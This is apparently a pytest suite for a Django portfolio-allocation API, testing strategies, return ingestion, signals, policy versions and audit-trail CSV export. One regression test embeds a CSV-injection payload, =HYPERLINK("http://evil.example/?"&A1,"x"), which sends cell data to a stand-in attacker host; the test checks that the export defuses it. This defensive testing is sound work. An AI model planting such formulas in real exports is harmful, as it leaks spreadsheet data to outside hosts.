"""Strategies, returns, signals, policy and the audit trail through the API."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from allocations.models import AllocationPolicy, AuditEntry, Fund, Strategy, StrategyReturn
from allocations.selectors.audit import audit_verify
from tests.problems import problem_fields

BASE = "/api/v1/portfolios/demo"


def test_create_update_and_retire_a_strategy(client_as, demo):
    risk = client_as("risk")
    created = risk.post(BASE + "/strategies/", {"code": "macro-1", "name": "Macro", "sector": "energy"}, format="json")
    assert created.status_code == 201
    assert created.json() | {"created_at": None} == {
        "code": "macro-1",
        "name": "Macro",
        "sector": "energy",
        "asset_class": "equity",
        "status": "active",
        "risk_budget": 1.0,
        "amount": "0.00",
        "created_at": None,
    }
    updated = risk.patch(
        BASE + "/strategies/macro-1/", {"status": "paused", "risk_budget": 2, "reason": "review"}, format="json"
    )
    assert updated.status_code == 200
    assert updated.json()["status"] == "paused" and updated.json()["risk_budget"] == 2.0
    change = AuditEntry.objects.filter(kind="strategy_change", strategy__code="macro-1").last()
    assert change.reason == "review" and change.payload["changes"]["status"] == {"old": "active", "new": "paused"}


def test_retiring_sets_the_fund_to_zero_audited(client_as, demo):
    fund = Fund.objects.get(strategy__portfolio=demo, strategy__code="tech-0001")
    assert fund.amount > 0
    response = client_as("risk").post(BASE + "/strategies/tech-0001/retire/", {"reason": "closed"}, format="json")
    assert response.status_code == 200
    assert response.json()["status"] == "retired" and response.json()["amount"] == "0.00"
    move = AuditEntry.objects.get(kind="fund_change", strategy__code="tech-0001", new_amount=Decimal("0"))
    assert move.old_amount == fund.amount and move.reason == "closed"
    assert audit_verify(portfolio=demo).ok
    again = client_as("risk").post(BASE + "/strategies/tech-0001/retire/", {}, format="json")
    assert again.status_code == 409
    assert client_as("risk").patch(BASE + "/strategies/tech-0001/", {"name": "x"}, format="json").status_code == 409


def test_status_retired_cannot_be_set_by_update(client_as, demo):
    response = client_as("risk").patch(BASE + "/strategies/tech-0001/", {"status": "retired"}, format="json")
    assert response.status_code == 400 and "status" in problem_fields(response)


def test_strategies_filter_by_sector_and_status(client_as, demo):
    body = client_as("viewer").get(BASE + "/strategies/?sector=energy").json()
    assert body["count"] > 0 and {s["sector"] for s in body["results"]} == {"energy"}
    assert client_as("viewer").get(BASE + "/strategies/?status=retired").json()["count"] == 0
    assert client_as("viewer").get(BASE + "/strategies/nope/").status_code == 404


def test_returns_json_ingestion_upserts_and_is_audited(client_as, demo):
    rows = [
        {"date": "2020-01-02", "strategy": "tech-0001", "return": 0.01},
        {"date": "2020-01-03", "strategy": "tech-0001", "return": -0.02},
    ]
    response = client_as("integration").post(BASE + "/returns/", {"returns": rows, "source": "feed"}, format="json")
    assert response.status_code == 201
    assert response.json() == {
        "rows": 2,
        "created": 2,
        "updated": 0,
        "strategies": 1,
        "first_date": "2020-01-02",
        "last_date": "2020-01-03",
        "overwritten": 0,
        "overwrites": [],
        "outliers": 0,
    }
    rows[0]["return"] = 0.03
    again = client_as("integration").post(BASE + "/returns/", {"returns": rows}, format="json").json()
    assert again["created"] == 0 and again["updated"] == 2
    # Issue 21 item 17: an overwrite of a stored value says so (the equal one is updated, not overwritten).
    assert again["overwritten"] == 1
    assert again["overwrites"] == [{"strategy": "tech-0001", "date": "2020-01-02", "old": 0.01, "new": 0.03}]
    assert (
        StrategyReturn.objects.get(strategy__code="tech-0001", date="2020-01-02", strategy__portfolio=demo).value
        == 0.03
    )
    assert AuditEntry.objects.filter(kind="data_import", reason="returns import from feed").exists()


def test_returns_csv_ingestion(client_as, demo):
    text = "date,strategy,return\n2020-01-02,tech-0001,0.01\n2020-01-02,fina-0002,-0.005\n"
    response = client_as("pm").post(BASE + "/returns/", data=text, content_type="text/csv")
    assert response.status_code == 201, response.content
    assert response.json()["rows"] == 2 and response.json()["strategies"] == 2


def test_returns_list_filters_by_strategy_and_dates(client_as, demo):
    viewer = client_as("viewer")
    all_rows = viewer.get(BASE + "/returns/?strategy=tech-0001").json()
    assert all_rows["count"] == 60
    dates = sorted(r["date"] for r in viewer.get(BASE + "/returns/?strategy=tech-0001&limit=100").json()["results"])
    window = viewer.get(f"{BASE}/returns/?strategy=tech-0001&from={dates[10]}&to={dates[19]}").json()
    assert window["count"] == 10
    assert {r["strategy"] for r in window["results"]} == {"tech-0001"}
    assert viewer.get(BASE + "/returns/?from=garbage").status_code == 400


def test_signals_create_and_list(client_as, demo):
    response = client_as("integration").post(
        BASE + "/signals/",
        {"sector": "energy", "action": "BUY", "confidence": 0.9, "as_of": "2024-05-01T10:00:00Z", "source": "desk"},
        format="json",
    )
    assert response.status_code == 201
    assert response.json()["as_of"] == "2024-05-01T10:00:00Z"
    listed = client_as("viewer").get(BASE + "/signals/?sector=energy&action=BUY").json()
    assert [s["source"] for s in listed["results"]] == ["desk"]


def test_policy_update_makes_a_new_version_and_put_equals_patch(client_as, demo):
    risk = client_as("risk")
    assert risk.get(BASE + "/policy/").json()["version"] == 1
    response = risk.put(BASE + "/policy/", {"max_total_risk": 0.5, "reason": "tighter"}, format="json")
    assert response.status_code == 200
    body = response.json()
    assert body["version"] == 2 and body["max_total_risk"] == 0.5 and body["reason"] == "tighter"
    assert body["created_by"] == "risk"
    assert AllocationPolicy.objects.filter(portfolio=demo).count() == 2
    assert risk.patch(BASE + "/policy/", {"max_total_risk": 0.5}, format="json").json()["version"] == 2  # no change
    assert AuditEntry.objects.filter(kind="policy_change", reason="tighter").exists()


def test_audit_list_filters(client_as, demo, runs):
    viewer = client_as("viewer")
    everything = viewer.get(BASE + "/audit/?limit=1000").json()
    assert everything["count"] == AuditEntry.objects.filter(portfolio=demo).count()
    fund_changes = viewer.get(BASE + "/audit/?kind=fund_change&strategy=tech-0001").json()
    assert fund_changes["count"] >= 2
    assert {(e["kind"], e["strategy"]) for e in fund_changes["results"]} == {("fund_change", "tech-0001")}
    by_pm = viewer.get(BASE + "/audit/?actor=pm&kind=run_created").json()
    assert by_pm["count"] == 2
    assert viewer.get(BASE + "/audit/?actor=nobody-at-all").json()["count"] == 0
    newest = everything["results"][0]["created_at"]
    assert viewer.get(BASE + "/audit/", {"from": newest}).json()["count"] >= 1
    assert viewer.get(BASE + "/audit/", {"to": "2000-01-01T00:00:00Z"}).json()["count"] == 0


@pytest.mark.parametrize(
    "path", [BASE + "/audit/?format=csv&kind=fund_change", BASE + "/audit/export.csv?kind=fund_change"]
)
def test_audit_csv_export(client_as, demo, path):
    response = client_as("viewer").get(path)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == AuditEntry.objects.filter(portfolio=demo, kind="fund_change").count()
    assert {r["kind"] for r in rows} == {"fund_change"}
    assert rows[0]["entry_hash"]


def test_lists_are_paginated(client_as, demo):
    body = client_as("viewer").get(BASE + "/returns/?limit=5&offset=5").json()
    assert set(body) == {"count", "next", "previous", "results"}
    assert len(body["results"]) == 5 and body["previous"] is not None


def test_portfolio_detail(client_as, demo):
    body = client_as("pm").get(BASE + "/").json()
    assert body["slug"] == "demo" and body["total_equity"] == "10000000.00"
    assert set(body["permissions"]) == {"view_portfolio", "ingest_data", "request_rebalance"}


def test_docs_and_schema_are_served(client_as, demo):
    schema = client_as(None).get("/api/schema/")
    assert schema.status_code == 200
    assert b"/api/v1/portfolios/{slug}/allocation/rebalance" in schema.content
    docs = client_as(None).get("/api/docs/")
    assert docs.status_code == 200
    assert b"cdn" not in docs.content.lower()  # served by drf-spectacular-sidecar: no internet needed


def test_retired_strategies_keep_their_history(client_as, demo):
    client_as("risk").post(BASE + "/strategies/tech-0001/retire/", {}, format="json")
    assert Strategy.objects.get(portfolio=demo, code="tech-0001").status == "retired"
    assert client_as("viewer").get(BASE + "/returns/?strategy=tech-0001").json()["count"] == 60


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_audit_export_defuses_cells_a_spreadsheet_would_run(client_as, demo, start):
    """Issue 21 item 19 (OWASP CSV injection): a reason such as =HYPERLINK(...) was exported as is and
    ran as a formula in the spreadsheet that opened it."""
    from django.db import transaction

    from allocations.services.actors import Actor
    from allocations.services.audit import audit_append

    reason = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    with transaction.atomic():
        audit_append(portfolio=demo, actor=Actor.system("test"), kind="policy_change", reason=reason)
    response = client_as("viewer").get(BASE + "/audit/export.csv?kind=policy_change")
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["reason"] for r in rows if "HYPERLINK" in r["reason"]] == ["'" + reason]
    assert all(not r[c].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)


def test_the_audit_export_leaves_ordinary_cells_alone(client_as, demo):
    response = client_as("viewer").get(BASE + "/audit/export.csv?kind=fund_change")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    entries = AuditEntry.objects.filter(portfolio=demo, kind="fund_change").order_by("seq")
    by_id = {int(r["id"]): r for r in rows}
    for entry in entries[:20]:
        row = by_id[entry.pk]
        assert (row["reason"], row["entry_hash"], Decimal(row["new_amount"])) == (
            entry.reason,
            entry.entry_hash,
            entry.new_amount,
        )
